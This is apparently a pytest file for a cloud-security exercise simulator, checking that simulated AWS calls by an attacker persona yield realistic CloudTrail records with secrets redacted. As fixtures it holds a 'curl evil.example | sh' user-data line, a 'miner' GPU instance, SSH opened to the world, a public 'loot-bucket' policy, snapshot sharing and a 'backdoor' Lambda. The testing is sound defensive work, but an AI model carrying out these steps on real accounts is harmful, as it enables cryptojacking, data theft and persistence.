"""Records are written as real ones are: shapes read off a real account's log files."""

from __future__ import annotations

import io
import json
import zipfile
from typing import TYPE_CHECKING, Any

import pytest
from botocore.exceptions import ClientError

from gameday.scorecards.actor import Actor
from gameday.simulator.engine.gateway.origin import Origin, calling_as

if TYPE_CHECKING:
    from conftest import Scene

TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": {
            "Effect": "Allow",
            "Principal": {"Service": "lambda.amazonaws.com"},
            "Action": "sts:AssumeRole",
        },
    }
)
ACCOUNT = "123456789012"


def _group(scene: Scene) -> str:
    made = scene.own("ec2").create_security_group(GroupName="web", Description="web")
    return str(made["GroupId"])


def _launch(scene: Scene) -> Any:
    launched = scene.own("ec2").run_instances(
        ImageId="ami-12345678", MinCount=1, MaxCount=1
    )
    return launched["Instances"][0]


def test_a_whole_record_has_the_members_of_a_real_one(scene: Scene) -> None:
    """Every member stands where real records have it, with what the actor showed."""
    scene.client("iam").create_access_key(UserName="mallory")
    record = scene.last
    made = record["responseElements"]["accessKey"]
    user = scene.own("iam").get_user(UserName="mallory")["User"]
    assert record == {
        "eventVersion": "1.11",
        "userIdentity": {
            "type": "IAMUser",
            "principalId": user["UserId"],
            "arn": f"arn:aws:iam::{ACCOUNT}:user/mallory",
            "accountId": ACCOUNT,
            "accessKeyId": scene.mallory.access_key,
            "userName": "mallory",
        },
        "eventTime": "2026-03-02T09:00:00Z",
        "eventSource": "iam.amazonaws.com",
        "eventName": "CreateAccessKey",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.7",
        "userAgent": "TruffleHog",
        "requestParameters": {"userName": "mallory"},
        "responseElements": {
            "accessKey": {
                "userName": "mallory",
                "accessKeyId": made["accessKeyId"],
                "status": "Active",
                "createDate": "Mar 2, 2026, 9:00:00 AM",
            }
        },
        "requestID": record["requestID"],
        "eventID": record["eventID"],
        "readOnly": False,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": ACCOUNT,
        "eventCategory": "Management",
        "tlsDetails": {
            "tlsVersion": "TLSv1.3",
            "cipherSuite": "TLS_AES_128_GCM_SHA256",
            "clientProvidedHostHeader": "iam.amazonaws.com",
        },
    }
    assert list(record)[:3] == ["eventVersion", "userIdentity", "eventTime"]
    assert json.loads(json.dumps(record)) == record


def test_an_opened_port_is_told_rule_by_rule(scene: Scene) -> None:
    """EC2 writes lists as objects with ``items``, and empty ones as empty objects."""
    group = _group(scene)
    scene.client("ec2").authorize_security_group_ingress(
        GroupId=group,
        IpPermissions=[
            {
                "IpProtocol": "tcp",
                "FromPort": 22,
                "ToPort": 22,
                "IpRanges": [{"CidrIp": "0.0.0.0/0", "Description": "all"}],
            }
        ],
    )
    assert scene.last["requestParameters"] == {
        "groupId": group,
        "ipPermissions": {
            "items": [
                {
                    "ipProtocol": "tcp",
                    "fromPort": 22,
                    "toPort": 22,
                    "groups": {},
                    "ipRanges": {
                        "items": [{"cidrIp": "0.0.0.0/0", "description": "all"}]
                    },
                    "ipv6Ranges": {},
                    "prefixListIds": {},
                }
            ]
        },
    }
    answer = scene.last["responseElements"]
    (rule,) = answer["securityGroupRuleSet"]["items"]
    assert answer["_return"] is True
    assert answer["requestId"] == scene.last["requestID"]
    assert (rule["cidrIpv4"], rule["isEgress"]) == ("0.0.0.0/0", False)


def test_the_older_form_of_a_rule_keeps_an_empty_list_beside_it(scene: Scene) -> None:
    """A rule given in single parameters is written so, as by real tools."""
    group = _group(scene)
    scene.client("ec2").authorize_security_group_ingress(
        GroupId=group, IpProtocol="tcp", FromPort=22, ToPort=22, CidrIp="0.0.0.0/0"
    )
    assert scene.last["requestParameters"] == {
        "groupId": group,
        "ipPermissions": {},
        "ipProtocol": "tcp",
        "fromPort": 22,
        "toPort": 22,
        "cidrIp": "0.0.0.0/0",
    }


def test_a_launch_tells_what_was_launched_and_hides_the_user_data(scene: Scene) -> None:
    """The image and the counts stand within ``instancesSet``."""
    group = _group(scene)
    scene.client("ec2").run_instances(
        ImageId="ami-12345678",
        MinCount=2,
        MaxCount=2,
        InstanceType="p3.2xlarge",
        UserData="#!/bin/sh\ncurl evil.example | sh",
        SecurityGroupIds=[group],
        ClientToken="token",
        TagSpecifications=[
            {"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "miner"}]}
        ],
    )
    assert scene.last["requestParameters"] == {
        "instancesSet": {
            "items": [{"imageId": "ami-12345678", "minCount": 2, "maxCount": 2}]
        },
        "blockDeviceMapping": {},
        "instanceType": "p3.2xlarge",
        "userData": "<sensitiveDataRemoved>",
        "groupSet": {"items": [{"groupId": group}]},
        "clientToken": "token",
        "tagSpecificationSet": {
            "items": [
                {
                    "resourceType": "instance",
                    "tags": [{"key": "Name", "value": "miner"}],
                }
            ]
        },
    }
    launched = scene.last["responseElements"]["instancesSet"]["items"]
    assert [each["instanceState"]["name"] for each in launched] == ["pending"] * 2
    assert launched[0]["launchTime"] == 1772442000000


def test_a_shared_snapshot_names_who_got_it(scene: Scene) -> None:
    """Both ways to ask are written below ``add``."""
    volume = scene.own("ec2").create_volume(Size=1, AvailabilityZone="us-east-1a")
    snapshot = scene.own("ec2").create_snapshot(VolumeId=volume["VolumeId"])
    ec2 = scene.client("ec2")
    expected = {
        "snapshotId": snapshot["SnapshotId"],
        "createVolumePermission": {"add": {"items": [{"userId": "111122223333"}]}},
        "attributeType": "CREATE_VOLUME_PERMISSION",
    }
    ec2.modify_snapshot_attribute(
        SnapshotId=snapshot["SnapshotId"],
        Attribute="createVolumePermission",
        OperationType="add",
        UserIds=["111122223333"],
    )
    assert scene.last["requestParameters"] == expected
    ec2.modify_snapshot_attribute(
        SnapshotId=snapshot["SnapshotId"],
        CreateVolumePermission={"Add": [{"UserId": "111122223333"}]},
    )
    assert scene.last["requestParameters"] == expected


def test_a_read_has_empty_sets_and_no_answer(scene: Scene) -> None:
    """What was not asked for stands there as an empty set."""
    instance = _launch(scene)["InstanceId"]
    scene.client("ec2").describe_instances(InstanceIds=[instance])
    assert scene.last["requestParameters"] == {
        "instancesSet": {"items": [{"instanceId": instance}]},
        "filterSet": {},
    }
    assert scene.last["responseElements"] is None
    assert scene.last["readOnly"] is True


def test_newer_operations_of_ec2_repeat_their_xml(scene: Scene) -> None:
    """Flow logs are told below the request's name, with numbered elements."""
    vpc = scene.own("ec2").create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    scene.own("s3").create_bucket(Bucket="flow-bucket")
    flow_log = scene.own("ec2").create_flow_logs(
        ResourceIds=[vpc],
        ResourceType="VPC",
        TrafficType="ALL",
        LogDestinationType="s3",
        LogDestination="arn:aws:s3:::flow-bucket",
    )["FlowLogIds"][0]
    scene.client("ec2").delete_flow_logs(FlowLogIds=[flow_log])
    assert scene.last["requestParameters"] == {
        "DeleteFlowLogsRequest": {"FlowLogId": {"tag": 1, "content": flow_log}}
    }
    assert scene.last["responseElements"]["DeleteFlowLogsResponse"]["xmlns"] == (
        "http://ec2.amazonaws.com/doc/2016-11-15/"
    )


def test_errors_have_cloudtrails_codes(scene: Scene) -> None:
    """EC2's begin with ``Client.``; IAM's have the error's whole name."""
    with pytest.raises(ClientError):
        scene.client("ec2").stop_instances(InstanceIds=["i-0123456789abcdef0"])
    assert scene.last["errorCode"] == "Client.InvalidInstanceID.NotFound"
    assert scene.last["responseElements"] is None
    assert scene.last["requestParameters"] == {
        "instancesSet": {"items": [{"instanceId": "i-0123456789abcdef0"}]}
    }
    with pytest.raises(ClientError):
        scene.client("iam").get_user(UserName="nobody")
    assert scene.last["errorCode"] == "NoSuchEntityException"
    assert "nobody" in scene.last["errorMessage"]


def test_a_refused_call_keeps_its_parameters_only_where_aws_does(scene: Scene) -> None:
    """IAM says nothing of what was asked by somebody it refuses; S3 does."""
    scene.own("iam").detach_user_policy(
        UserName="mallory", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess"
    )
    with pytest.raises(ClientError):
        scene.client("iam").create_user(UserName="backdoor")
    assert scene.last["errorCode"] == "AccessDenied"
    assert scene.last["requestParameters"] is None
    with pytest.raises(ClientError):
        scene.client("s3").create_bucket(Bucket="loot-bucket")
    assert scene.last["errorCode"] == "AccessDenied"
    assert scene.last["requestParameters"]["bucketName"] == "loot-bucket"


def test_a_bucket_policy_is_an_object(scene: Scene) -> None:
    """S3 tells the host, the sub-resource and the policy read as JSON."""
    scene.own("s3").create_bucket(Bucket="loot-bucket")
    scene.own("s3").delete_public_access_block(Bucket="loot-bucket")
    policy = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": "*",
                "Action": "s3:GetObject",
                "Resource": "arn:aws:s3:::loot-bucket/*",
            }
        ],
    }
    scene.client("s3").put_bucket_policy(
        Bucket="loot-bucket", Policy=json.dumps(policy)
    )
    record = scene.last
    assert record["eventName"] == "PutBucketPolicy"
    assert record["requestParameters"] == {
        "bucketName": "loot-bucket",
        "Host": "loot-bucket.s3.amazonaws.com",
        "policy": "",
        "bucketPolicy": policy,
    }
    assert record["responseElements"] is None
    assert record["userAgent"] == "[TruffleHog]"
    assert record["resources"] == [
        {
            "accountId": ACCOUNT,
            "type": "AWS::S3::Bucket",
            "ARN": "arn:aws:s3:::loot-bucket",
        }
    ]
    assert record["additionalEventData"]["SignatureVersion"] == "SigV4"
    assert record["additionalEventData"]["bytesTransferredIn"] == len(
        json.dumps(policy)
    )


def test_an_access_point_stands_among_the_resources(scene: Scene) -> None:
    """Behind the bucket, which the request had no name of."""
    scene.own("s3").create_bucket(Bucket="loot-bucket")
    made = scene.own("s3control").create_access_point(
        AccountId=ACCOUNT, Name="app", Bucket="loot-bucket"
    )
    scene.client("s3").get_bucket_acl(Bucket=made["AccessPointArn"])
    record = scene.last
    assert record["requestParameters"]["bucketName"] == "loot-bucket"
    host = f"app-{ACCOUNT}.s3-accesspoint.us-east-1.amazonaws.com"
    assert record["requestParameters"]["Host"] == host
    assert [each["type"] for each in record["resources"]] == [
        "AWS::S3::Bucket",
        "AWS::S3::AccessPoint",
    ]
    assert record["resources"][1]["ARN"] == made["AccessPointArn"]


def test_a_bucket_configuration_is_xml_turned_into_json(scene: Scene) -> None:
    """A single element of a list stands by itself."""
    scene.own("s3").create_bucket(Bucket="loot-bucket")
    scene.client("s3").put_bucket_lifecycle_configuration(
        Bucket="loot-bucket",
        LifecycleConfiguration={
            "Rules": [
                {
                    "ID": "nuke",
                    "Status": "Enabled",
                    "Filter": {"Prefix": "*"},
                    "Expiration": {"Days": 1},
                }
            ]
        },
    )
    assert scene.last["eventName"] == "PutBucketLifecycle"
    assert scene.last["requestParameters"]["LifecycleConfiguration"] == {
        "xmlns": "http://s3.amazonaws.com/doc/2006-03-01/",
        "Rule": {
            "ID": "nuke",
            "Status": "Enabled",
            "Filter": {"Prefix": "*"},
            "Expiration": {"Days": 1},
        },
    }


def test_secrets_are_hidden_as_each_service_does(scene: Scene) -> None:
    """No secret stands anywhere in a record."""
    scene.client("iam").create_login_profile(UserName="mallory", Password="hush-hush1!")
    assert scene.last["requestParameters"] == {"userName": "mallory"}
    scene.client("secretsmanager").create_secret(Name="db", SecretString="hush-hush")
    assert "secretString" not in scene.last["requestParameters"]
    assert list(scene.last["responseElements"]) == ["arn"]
    scene.client("ssm").put_parameter(
        Name="/db/password", Value="hush-hush", Type="SecureString"
    )
    value = scene.last["requestParameters"]["value"]
    assert value == "HIDDEN_DUE_TO_SECURITY_REASONS"
    scene.client("rds").create_db_instance(
        DBInstanceIdentifier="db1",
        DBInstanceClass="db.t3.micro",
        Engine="mysql",
        MasterUsername="admin",
        MasterUserPassword="hush-hush",
    )
    asked = scene.last["requestParameters"]
    assert asked["masterUserPassword"] == "HIDDEN_DUE_TO_SECURITY_REASONS"
    assert asked["dBInstanceIdentifier"] == "db1"
    assert scene.last["responseElements"]["dBInstanceIdentifier"] == "db1"
    assert "hush" not in json.dumps([record.whole for record in scene.records])


def test_a_function_is_told_without_its_code_and_environment(scene: Scene) -> None:
    """Lambda's event names carry the date of the API."""
    scene.own("iam").create_role(RoleName="fn", AssumeRolePolicyDocument=TRUST)
    _upload_code(scene)
    scene.client("lambda").create_function(
        FunctionName="backdoor",
        Runtime="python3.13",
        Role=f"arn:aws:iam::{ACCOUNT}:role/fn",
        Handler="app.handler",
        Code={"S3Bucket": "code-bucket", "S3Key": "code.zip"},
        Environment={"Variables": {"TOKEN": "hush-hush"}},
    )
    record = scene.last
    assert record["eventName"] == "CreateFunction20150331"
    assert record["requestParameters"]["environment"] == {}
    assert record["requestParameters"]["functionName"] == "backdoor"
    assert record["responseElements"]["functionArn"].endswith(":function:backdoor")


def _upload_code(scene: Scene) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("app.py", "def handler(event, context):\n    return event\n")
    scene.own("s3").create_bucket(Bucket="code-bucket")
    scene.own("s3").put_object(
        Bucket="code-bucket", Key="code.zip", Body=packed.getvalue()
    )


def test_an_assumed_role_is_told_without_its_secret(scene: Scene) -> None:
    """The record names the new session and the role as its resource."""
    role = scene.own("iam").create_role(
        RoleName="admin",
        AssumeRolePolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"AWS": f"arn:aws:iam::{ACCOUNT}:root"},
                        "Action": "sts:AssumeRole",
                    }
                ],
            }
        ),
    )["Role"]
    issued = scene.client("sts").assume_role(
        RoleArn=role["Arn"], RoleSessionName="hop"
    )["Credentials"]
    record = scene.last
    assert record["readOnly"] is True
    credentials = record["responseElements"]["credentials"]
    assert sorted(credentials) == ["accessKeyId", "expiration", "sessionToken"]
    assert credentials["accessKeyId"] == issued["AccessKeyId"]
    assert record["resources"] == [
        {"accountId": ACCOUNT, "type": "AWS::IAM::Role", "ARN": role["Arn"]}
    ]
    user = record["responseElements"]["assumedRoleUser"]
    assert user["arn"] == f"arn:aws:sts::{ACCOUNT}:assumed-role/admin/hop"


def test_using_a_key_names_it(scene: Scene) -> None:
    """Decrypting is a read without an answer; its resource is the key."""
    key = scene.own("kms").create_key()["KeyMetadata"]
    box = scene.own("kms").encrypt(KeyId=key["KeyId"], Plaintext=b"hush")
    scene.client("kms").decrypt(CiphertextBlob=box["CiphertextBlob"])
    record = scene.last
    assert (record["readOnly"], record["responseElements"]) == (True, None)
    assert record["resources"] == [
        {"accountId": ACCOUNT, "type": "AWS::KMS::Key", "ARN": key["Arn"]}
    ]
    assert "ciphertextBlob" not in (record["requestParameters"] or {})


def test_the_simulators_own_calls_leave_no_record(scene: Scene) -> None:
    """What makes and checks the exercise is not in it."""
    scene.own("iam").list_users()
    assert scene.records == []


def test_a_tools_features_stand_in_order(scene: Scene) -> None:
    """The SDK lists them as it likes; the same exercise writes the same bytes."""
    agent = "Boto3/1.43 md/Botocore#1.43 lang/python#3.11 m/b,Z,D cfg/retry-mode#legacy"
    with calling_as(Origin(Actor("responder"), user_agent=agent)):
        scene.client("sts").get_caller_identity()
    assert scene.last["userAgent"] == agent.replace("m/b,Z,D", "m/D,Z,b")
